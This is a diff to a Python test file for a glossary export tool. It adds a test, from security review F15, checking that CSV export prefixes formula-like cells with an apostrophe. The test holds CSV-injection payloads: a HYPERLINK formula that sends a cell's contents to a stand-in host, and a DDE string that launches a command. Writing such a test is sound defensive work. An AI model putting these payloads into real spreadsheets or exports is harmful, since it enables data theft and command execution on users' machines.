@@ -6,6 +6,7 @@ import csv
 import io
 
 import pytest
+import yaml
 from translate.storage import tbx, tmx
 
 from scripts.glossary.terms import load_terms
@@ -39,6 +40,24 @@ def test_csv_to_standard_output_has_one_row_per_term(project):
     assert [row["id"] for row in rows] == sorted(terms)
     row = next(r for r in rows if r["id"] == "iom")
     assert (row["vi"], row["en"], row["en_abbr"]) == (terms["iom"].vi, terms["iom"].en, terms["iom"].en_abbr)
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
+    """Security review F15: "=HYPERLINK(…)", "@SUM(…)", "+…", "-…" in a term's text are written as
+    text, not formulas."""
+    project = copy_project(tmp_path / "p")
+    term = project / "glossary" / "terms" / "geneva.yml"
+    data = yaml.safe_load(term.read_text(encoding="utf-8"))
+    data["definition_en"] = '=HYPERLINK("http://x.example/?q="&A1,"A city")'
+    data["definition_vi"] = "@SUM(1+1)*cmd|' /C calc'!A0 Thành phố"
+    data["en"] = "+Geneva"
+    term.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    result = run_cli("export", "csv", "-o", "-", root=project)
+    assert result.returncode == 0, result.stderr
+    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == "geneva")
+    assert row["definition_en"].startswith("'=HYPERLINK(") and row["definition_vi"].startswith("'@SUM(")
+    assert row["en"] == "'+Geneva"
+    assert not [v for r in csv.DictReader(io.StringIO(result.stdout)) for v in r.values() if v and v[0] in "=@+-\t\r"]
 
 
 def test_tmx_reads_as_a_translation_memory_with_every_finished_segment(project, tmp_path):
